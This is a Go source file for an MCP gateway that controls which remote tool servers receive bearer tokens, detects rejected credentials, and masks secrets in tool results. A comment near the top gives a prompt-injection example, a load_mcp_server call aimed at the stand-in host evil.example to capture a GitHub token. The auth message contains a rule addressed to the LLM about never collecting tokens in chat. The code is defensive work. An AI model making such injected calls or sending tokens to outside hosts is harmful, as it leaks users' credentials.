package gateway

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/toolgate/toolgate/internal/config"
)

// token decides whether a remote server gets a bearer token and reads it.
//
// The rule: the tokens file entry for name N is sent only to the URL the
// config declares for N. A server connected at run time by load_mcp_server
// gets one only if the config declares the same name with the same URL
// (e.g. a "disabled" entry). So a prompt-injected
// load_mcp_server("github", "https://evil.example/mcp") gets nothing: the
// URL is not github's configured one (and the configured github, if
// running, already holds the name).
func (g *Gateway) token(cfg *config.Server) (string, bool, error) {
	if g.tokens == nil {
		return "", false, nil
	}
	conf, ok := g.cfg.Servers[cfg.Name]
	if !ok || !conf.IsRemote() || !sameURL(conf.URL, cfg.URL) {
		return "", false, nil
	}
	t, ok, err := g.tokens.Get(cfg.Name)
	if err != nil {
		return "", false, err
	}
	return t.Value, ok, nil
}

// sameURL compares two URLs after normalising scheme and host case and a
// trailing slash.
func sameURL(a, b string) bool {
	ua, err1 := url.Parse(a)
	ub, err2 := url.Parse(b)
	if err1 != nil || err2 != nil {
		return false
	}
	norm := func(u *url.URL) string {
		return strings.ToLower(u.Scheme) + "://" + strings.ToLower(u.Host) + strings.TrimSuffix(u.EscapedPath(), "/") + "?" + u.RawQuery
	}
	return ua.User == nil && ub.User == nil && norm(ua) == norm(ub)
}

// authFailure recognises an upstream's refusal of its credentials.
func authFailure(err error) bool {
	if err == nil {
		return false
	}
	m := strings.ToLower(err.Error())
	for _, s := range []string{"401", "403", "unauthorized", "unauthorised", "forbidden"} {
		if strings.Contains(m, s) {
			return true
		}
	}
	return false
}

// authMessage tells the LLM what to do about a rejected credential. It does
// not name the tokens file's path: an agent with file tools should not be
// pointed at it.
func (g *Gateway) authMessage(server string) string {
	age := "unknown"
	if g.tokens != nil {
		if d := g.tokens.Age(server); d > 0 {
			age = humanDuration(d)
		}
	}
	return fmt.Sprintf("server %q rejected its credentials (unauthorized or forbidden). Its token in toolgate's tokens file has been unchanged for %s and has probably expired or been revoked. Ask the user to update the %q entry in the tokens file, then retry. Never ask the user to paste a token into this conversation.", server, age, server)
}

func humanDuration(d time.Duration) string {
	switch {
	case d < time.Minute:
		return "less than a minute"
	case d < time.Hour:
		return fmt.Sprintf("%d minutes", int(d.Minutes()))
	case d < 48*time.Hour:
		return fmt.Sprintf("%.1f hours", d.Hours())
	default:
		return fmt.Sprintf("%d days", int(d.Hours()/24))
	}
}

// redactResult masks every known secret in what goes back to the client.
func (g *Gateway) redactResult(res *mcp.CallToolResult) *mcp.CallToolResult {
	if g.redact.Empty() || res == nil {
		return res
	}
	for _, c := range res.Content {
		switch c := c.(type) {
		case *mcp.TextContent:
			c.Text = g.redact.String(c.Text)
		case *mcp.EmbeddedResource:
			if c.Resource != nil {
				c.Resource.Text = g.redact.String(c.Resource.Text)
			}
		case *mcp.ResourceLink:
			c.Description = g.redact.String(c.Description)
		}
	}
	switch sc := res.StructuredContent.(type) {
	case SearchOutput:
		for i := range sc.Tools {
			sc.Tools[i].Description = g.redact.String(sc.Tools[i].Description)
			sc.Tools[i].InputSchema = g.redact.Value(sc.Tools[i].InputSchema)
		}
	case nil:
	default:
		res.StructuredContent = g.redact.Value(sc)
	}
	// Whatever else a result carries (_meta of the result or of a content
	// block, resource link URIs and names, ...): check the encoded result,
	// and re-read it masked if a secret is still in it.
	b, err := json.Marshal(res)
	if err != nil {
		return errorResult("the result could not be checked for secrets, so it was withheld")
	}
	if masked := g.redact.String(string(b)); masked != string(b) {
		var out mcp.CallToolResult
		if err := json.Unmarshal([]byte(masked), &out); err != nil {
			return errorResult("the result contained a secret and could not be masked, so it was withheld")
		}
		return &out
	}
	return res
}
